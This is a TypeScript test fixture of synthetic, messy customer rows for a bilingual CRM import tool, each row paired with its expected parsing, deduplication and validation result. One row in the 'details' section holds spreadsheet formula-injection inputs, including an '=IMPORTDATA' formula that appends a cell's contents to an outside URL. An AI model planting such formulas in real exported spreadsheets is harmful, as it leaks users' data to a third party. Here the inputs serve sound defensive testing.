// The sample's traps: customers as messy lists have them, each with what must become of it (product.md §6).
import type { CustomerKey } from '../../template/index';
import type { Cell, Text } from '../../template/types';

/** A customer of the cast. Cells are raw, as a file would hold them; a text of both languages takes the workbook's. */
export interface CastMember {
  readonly cells: Readonly<Partial<Record<CustomerKey, string | Text>>>;
  /** Options by id; written as their label. */
  readonly options?: Readonly<Partial<Record<CustomerKey, string>>>;
  /** Index in the team, nobody (the pool), or somebody the team does not know; absent: shared out in turn. */
  readonly owner?: number | null | Text;
  /** Rows of one name here are one customer, and merge as exact duplicates. */
  readonly together?: string;
  /** The same customer as the rows `together` under this name, but only a fuzzy search can see it. */
  readonly near?: string;
  /** Rows of one name here are different customers, whatever they share. */
  readonly apart?: string;
  /** What reading makes of cells. */
  readonly values?: Readonly<Partial<Record<CustomerKey, Cell | Text>>>;
  /** Cells that stay as typed, named in the row's issues: their columns only warn. */
  readonly kept?: readonly CustomerKey[];
  /** Cells that stay empty, the original set aside: their columns are strict. */
  readonly setAside?: readonly CustomerKey[];
  /** The whole row is set aside. */
  readonly rejected?: true;
}

const words = (zh: string, en: string): Text => ({ 'zh-CN': zh, en });

/** Namesakes, rare surnames, foreign names: nobody here is a duplicate of anybody else. */
const people: readonly CastMember[] = [
  {
    cells: { name: '张伟', company: '上海启明科技有限公司', mobile: '134 0000 2468' },
    options: { tier: 'key' },
    apart: 'zhangwei',
  },
  { cells: { name: '张伟', company: '杭州云杉贸易有限公司', mobile: '134-0000-1357' }, apart: 'zhangwei' },
  { cells: { name: '张伟', company: '深圳蓝湖咨询', email: 'zhangwei@lanhu.example.com' }, apart: 'zhangwei' },
  {
    cells: { name: '张伟', company: '上海启明科技有限公司', mobile: '13400003690', email: 'zw.sales@qiming.example.com' },
    apart: 'zhangwei',
  },
  {
    cells: { name: '欧阳敏', company: '蓝湖咨询', mobile: '１３４００００４６８０' },
    values: { mobile: '+8613400004680' },
  },
  { cells: { name: '单立', company: '（上海）云杉贸易有限公司', mobile: '8613400005791' }, values: { mobile: '+8613400005791' } },
  {
    cells: { name: '曾华', company: '北京天工机械集团', phone: '(010) 6552 9988 转 801', province: '北京', city: '北京' },
    values: { phone: '+86 10 65529988 x801', province: words('北京市', 'Beijing'), city: words('北京市', 'Beijing') },
  },
  { cells: { name: '解宁', mobile: '1.38E+10', wechat: 'xiening_2468' }, kept: ['mobile'] },
  { cells: { name: '仇和平', phone: '1065529977', email: 'qiu.heping@example.org' }, kept: ['phone'] },
  {
    cells: { name: "Siobhan O'Brien", company: 'Harbour & Sons Ltd', mobile: '+44 7700 900123', country: 'United Kingdom' },
    values: { mobile: '+447700900123', country: 'GB' },
  },
  {
    cells: { name: 'José García', company: 'García e Hijos', mobile: '+1 (202) 555-0123', country: 'US', province: 'California' },
    values: { mobile: '+12025550123', province: 'California' },
  },
  {
    cells: { name: 'Łukasz Nowak', company: 'Nowak GmbH', phone: '+49 30 23125123', country: 'DE', city: 'Berlin' },
    values: { phone: '+493023125123', city: 'Berlin' },
  },
  {
    cells: { name: 'Nguyễn Thị Lan', company: 'Saigon Foods Pte Ltd', mobile: '+65 8000 1234', country: 'SG' },
    values: { mobile: '+6580001234' },
  },
  {
    cells: { name: '田中花子', company: '㈱青空商事', email: 'HANAKO＠Aozora.example.com' },
    values: { email: 'hanako@aozora.example.com' },
  },
  { cells: { name: '小可爱🌸', wechat: 'keai_flower' } },
  { cells: { name: '𠮷田健', company: '有限公司', email: 'yoshida@example.org' } },
  {
    cells: { name: '', company: '宁波海蓝食品有限公司', phone: '0574-8765 4321' },
    values: { phone: '+86 574 87654321' },
  },
  { cells: { name: '', company: '', mobile: '13400006802' }, rejected: true },
];

/** Branches, switchboards, families: what they share does not make them one. */
const shared: readonly CastMember[] = [
  { cells: { name: '王磊', company: '华联物流上海分公司', mobile: '13400007913' }, apart: 'branches' },
  { cells: { name: '王磊', company: '华联物流北京分公司', mobile: '13400008024' }, apart: 'branches' },
  ...['孙丽', '周敏', '何勇', '沈洁', '范军'].map((name, i) => ({
    cells: { name, company: '苏州联创有限公司', phone: '0512-66558800', wechat: `lianchuang_${i + 1}`, city: '苏州' },
    values: { phone: '+86 512 66558800' },
    apart: 'switchboard',
  })),
  { cells: { name: '赵强', mobile: '13400009135' }, options: { contact_pref: 'phone' }, apart: 'family' },
  { cells: { name: '赵小雨', mobile: '13400009135', birthday: '2015-06-01' }, apart: 'family' },
  {
    cells: { name: '李强', company: '杭州恒远电子有限公司', mobile: '13100001246', uscc: '91330106MA00000016' },
    apart: 'two codes',
  },
  {
    cells: { name: '李强', company: '杭州恒远贸易有限公司', mobile: '13100001246', uscc: '91330108MA00000026' },
    apart: 'two codes',
  },
];

/** The same customer twice or three times, each time written differently. */
const twins: readonly CastMember[] = [
  { cells: { name: '王芳', company: '宁波海蓝食品有限公司', mobile: '131 0000 2357' }, owner: 2, together: 'wangfang' },
  {
    cells: { name: '王芳', mobile: '+86 131-0000-2357', wechat: 'wangfang_66', needs: '想看新款' },
    owner: 2,
    together: 'wangfang',
  },
  { cells: { name: '刘洋', company: '成都睿思教育', mobile: '13100003468' }, owner: 3, together: 'liuyang' },
  { cells: { name: '刘 洋', mobile: '131-0000-3468', email: 'LiuYang@ruisi.example.com' }, owner: 3, together: 'liuyang' },
  { cells: { name: '刘洋', company: '成都睿思教育', email: 'liuyang@ruisi.example.com' }, owner: 3, together: 'liuyang' },
  { cells: { name: '陈志明', company: '厦门佳禾食品有限公司', mobile: '13100004579' }, owner: 4, together: 'chenzhiming' },
  { cells: { name: '陈志明', mobile: '131-0000-4579', city: '厦门' }, owner: 4, together: 'chenzhiming' },
  { cells: { name: '陳志明', mobile: '13100004579', company: '廈門佳禾食品有限公司' }, owner: 4, near: 'chenzhiming' },
  { cells: { name: 'Chen Weiming', email: 'chen.weiming@example.com', country: 'SG' }, owner: 1, together: 'weiming' },
  { cells: { name: 'CHEN WEIMING', email: 'Chen.Weiming@Example.com' }, owner: 1, together: 'weiming' },
];

/** Places, days, consent, texts. */
const details: readonly CastMember[] = [
  {
    cells: { name: '郑秋', mobile: '13100006791', province: '湖北', city: '仙桃' },
    values: { province: words('湖北省', 'Hubei'), city: words('仙桃市', 'Xiantao') },
  },
  {
    cells: { name: '金善姬', mobile: '13100007802', province: '吉林', city: '延边' },
    values: { city: words('延边朝鲜族自治州', 'Yanbian') },
  },
  {
    cells: { name: '孟朝阳', mobile: '13100008913', province: '辽宁', city: '朝阳' },
    values: { city: words('朝阳市', 'Chaoyang') },
  },
  {
    cells: { name: '黎嘉欣', mobile: '+852 5123 4567', country: '香港', province: '香港' },
    values: { mobile: '+85251234567', country: 'HK' },
  },
  {
    cells: { name: '林怡君', mobile: '+886 912 345 678', country: '台湾', next_follow_up: '113/3/5' },
    values: { mobile: '+886912345678', country: 'TW' },
    setAside: ['next_follow_up'],
  },
  {
    cells: { name: '冯两机', mobile: '13300002469 / 13300002470' },
    values: { mobile: '+8613300002469' },
  },
  { cells: { name: '陶问', mobile: '13300003571', next_follow_up: '3/4/24' }, setAside: ['next_follow_up'] },
  {
    cells: { name: '闰生', mobile: '13300004682', birthday: '闰六月十五' },
    options: { birthday_cal: 'lunar' },
    values: { birthday: '闰06-15' },
  },
  { cells: { name: '艾二九', mobile: '13300005793', birthday: '2月29日' }, values: { birthday: '02-29' } },
  {
    cells: { name: '尹退订', mobile: '13300006804', email: 'yin@example.org', birthday: '1988-05-20' },
    options: { consent_status: 'withdrawn', tier: 'key', stage: 'loyal' },
  },
  {
    cells: { name: '莫打扰', mobile: '13300007915', tags: '安静；安静;勿扰' },
    options: { contact_pref: 'do_not_disturb' },
    values: { tags: '安静; 勿扰' },
  },
  {
    cells: {
      name: '@SUM(A1)',
      mobile: '13300008026',
      remark: '=IMPORTDATA("https://example.com/?q="&A1)',
      next_action: '+1 先打电话',
    },
    values: { name: '@SUM(A1)', remark: '=IMPORTDATA("https://example.com/?q="&A1)', next_action: '+1 先打电话' },
  },
  {
    cells: { name: '段落', mobile: '13300009137', remark: '第一行\n第二行，"引号"' },
    values: { remark: '第一行\n第二行，"引号"' },
  },
  { cells: { name: '龙长文', mobile: '13200001248', remark: '长'.repeat(50_000) }, values: { remark: '长'.repeat(2000) } },
  { cells: { name: '错一项', mobile: '13200002359', tier: '钻石', email: 'not a mail' }, kept: ['email'], setAside: ['tier'] },
];

/** A pair two people hold: found, but only a manager decides whose it stays; and one owner nobody knows. */
const disputed: readonly CastMember[] = [
  { cells: { name: '徐静', company: '南京博雅教育有限公司', mobile: '13100005680' }, owner: 2, apart: 'two owners' },
  { cells: { name: '徐静', mobile: '131 0000 5680' }, owner: 3, apart: 'two owners' },
  { cells: { name: '贺新', mobile: '13200003460' }, owner: words('王五', 'Wang Wu') },
  { cells: { name: '毛公', mobile: '13200004571' }, owner: null },
];

export const cast: readonly CastMember[] = [...twins, ...people, ...shared, ...disputed, ...details];
